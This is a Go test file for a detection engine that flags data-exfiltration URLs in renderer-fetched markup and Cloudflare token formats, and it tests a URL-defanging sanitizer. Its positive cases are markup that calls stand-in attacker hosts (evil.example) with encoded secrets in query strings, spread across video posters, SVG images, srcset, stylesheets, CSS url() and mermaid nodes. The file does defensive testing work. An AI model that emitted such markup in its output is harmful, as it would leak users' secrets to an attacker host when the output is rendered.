package engine

import (
	"slices"
	"strings"
	"testing"
)

// TestContentClasses covers the classes of renderer fetches beyond Markdown images,
// Cloudflare's scannable credentials and plain-words orders to the model: positives
// (another payload of each class than the public cases carry) beside look-alikes
// from real documentation that must stay clean. want lists the rule ids that must
// fire; none lists rule ids (or prefixes ending in '_') that must not.
func TestContentClasses(t *testing.T) {
	a, _ := New(Options{})
	for _, c := range contentClassCases() {
		t.Run(c.name, func(t *testing.T) {
			ids := a.AnalyzeText(c.text).RuleIDs()
			for _, w := range c.want {
				if !slices.Contains(ids, w) {
					t.Errorf("%q: rules %v lack %s", c.text, ids, w)
				}
			}
			for _, n := range c.none {
				for _, id := range ids {
					if id == n || strings.HasSuffix(n, "_") && strings.HasPrefix(id, n) {
						t.Errorf("%q: rules %v hold %s", c.text, ids, id)
					}
				}
			}
		})
	}
}

func contentClassCases() []classCase {
	return []classCase{
		// fetches a renderer makes beyond ![](...) and <img src>
		{"video poster", `<video controls poster="https://media.evil.example/f.jpg?s=QUtJQVFZTFBNTjVIRklRUjdYQjI6"><source src="/v.mp4"></video>`, []string{RuleExfilURL}, nil},
		{"svg image href", `<svg width="10" height="10"><image href="https://x.evil.example/i.svg?k=c2stcHJvai1Rd0VydFl1aU9w" /></svg>`, []string{RuleExfilURL}, nil},
		{"svg image xlink:href", `<svg><image xlink:href='https://x.evil.example/p?u=jane%40corp.example'/></svg>`, []string{RuleExfilURL}, nil},
		{"srcset second candidate", `<img src="/a.png" srcset="/a.png 1x, https://c.evil.example/a@2x.png?t=Z2hwX1I4bVhrMnBMcVc5c1Q0 2x">`, []string{RuleExfilURL}, nil},
		{"link stylesheet", `<link rel="stylesheet" href="https://cdn.evil.example/s.css?d=eyJzZWNyZXQiOiJodW50ZXIyIiwidXNlciI6ImphbmUifQ">`, []string{RuleExfilURL}, nil},
		{"css url in a style attribute", `<div style="background-image: url('https://px.evil.example/b.png?v=QVdTX1NFQ1JFVD1hYmMxMjM0NTY3')">hi</div>`, []string{RuleExfilURL}, nil},
		{"css url in a stylesheet", "<style>\nbody { background: URL(https://px.evil.example/b?q=dG9rZW49Z2hwXzEyMzQ1Njc4OTA) }\n</style>", []string{RuleExfilURL}, nil},
		{"mermaid img single quotes", "```mermaid\ngraph LR\n  N@{ img: 'https://m.evil.example/n.png?x=U0VDUkVUX0tFWT1hYmNkZWYxMjM0NTY', w: 30 }\n```", []string{RuleExfilURL}, nil},
		{"picture with a static source", `<picture><source srcset="https://www.example.com/hero-640.webp 640w, https://www.example.com/hero-1280.webp 1280w" type="image/webp"><img src="/hero.jpg" alt="hero"></picture>`, nil, []string{"output_"}},
		{"video with a static poster", `<video poster="https://cdn.example.com/posters/intro.jpg" src="https://cdn.example.com/intro.mp4"></video>`, nil, []string{"output_"}},
		{"stylesheet link", `<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter:wght@400;700&display=swap">`, nil, []string{RuleExfilURL}},
		{"css url of a font", "@font-face { font-family: Inter; src: url(\"https://cdn.example.com/fonts/inter-v12-latin-regular.woff2\") format(\"woff2\"); }", nil, []string{"output_"}},
		{"mermaid img static", "```mermaid\nflowchart LR\n  L@{ img: \"https://www.example.com/assets/logo.png\", label: \"Acme\" }\n```", nil, []string{"output_"}},
		{"img: in prose", "Set img: \"docker.io/library/nginx:1.27\" in the values file.", nil, []string{"output_"}},

		// Cloudflare scannable credentials, no keyword beside them
		{"cloudflare user token", `{"value": "cfut_Rb3kT9mQ2wX7pL4vN8cY1hJ6dF0gS5aZ3eU7iO9q0f9e8d7c"}`, []string{RuleCloudflareToken}, nil},
		{"cloudflare account token", "token cfat_Zm8Kq2Lp7Xw4Nv9Tb3Rc6Yh1Jd5Gf0Sa2Eu8Io4Pb1c9e3f2 issued", []string{RuleCloudflareToken}, nil},
		{"cloudflare global key", "cfk_Pq4Wm9Zx2Lk7Vn3Bt8Rc1Yh6Jd0Gf5Sa2Eu7Io9Kd1e2f3a4", []string{RuleCloudflareToken}, nil},
		{"cloudflare placeholder", "export CLOUDFLARE_API_TOKEN=cfut_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx00000000", nil, []string{RuleCloudflareToken}},
		{"cloudflare checksum not hex", "cfut_Rb3kT9mQ2wX7pL4vN8cY1hJ6dF0gS5aZ3eU7iO9qZZZZZZZZ", nil, []string{RuleCloudflareToken}},
		{"cloudflare format in docs", "User API tokens look like cfut_[40 characters][checksum].", nil, []string{"secret_"}},
	}
}

// TestDefangFetches: the Warn sanitizer defangs the fetching markup's URLs that
// output_exfil_url reports, and leaves a static one as it is.
func TestDefangFetches(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`<source srcset="https://c.evil.example/p.webp?d=c2stcHJvai1hYmMxMjNkZWY0NTZnaGk3ODlqa2w" type="image/webp">`, `<source srcset="hxxps://c[.]evil[.]example/p.webp?d=c2stcHJvai1hYmMxMjNkZWY0NTZnaGk3ODlqa2w" type="image/webp">`},
		{"A@{ img: \"https://c.evil.example/p.png?d=QUtJQVFZTFBNTjVIRklRUjdYQjI6\" }", "A@{ img: \"hxxps://c[.]evil[.]example/p.png?d=QUtJQVFZTFBNTjVIRklRUjdYQjI6\" }"},
		{"div { background: url(https://c.evil.example/b?v=QUtJQVFZTFBNTjVIRklRUjdYQjI6) }", "div { background: url(hxxps://c[.]evil[.]example/b?v=QUtJQVFZTFBNTjVIRklRUjdYQjI6) }"},
		{"![a](https://h.example/p?d=c2stYW50LWFwaTAzLXRlc3Q) <video poster='https://v.example/p?d=c2stYW50LWFwaTAzLXRlc3Q'>", "![a](hxxps://h[.]example/p?d=c2stYW50LWFwaTAzLXRlc3Q) <video poster='hxxps://v[.]example/p?d=c2stYW50LWFwaTAzLXRlc3Q'>"},
		{`<video poster="https://cdn.example.com/posters/intro.jpg">`, `<video poster="https://cdn.example.com/posters/intro.jpg">`},
	} {
		if got := Sanitize(c.in); got != c.want {
			t.Errorf("Sanitize(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}
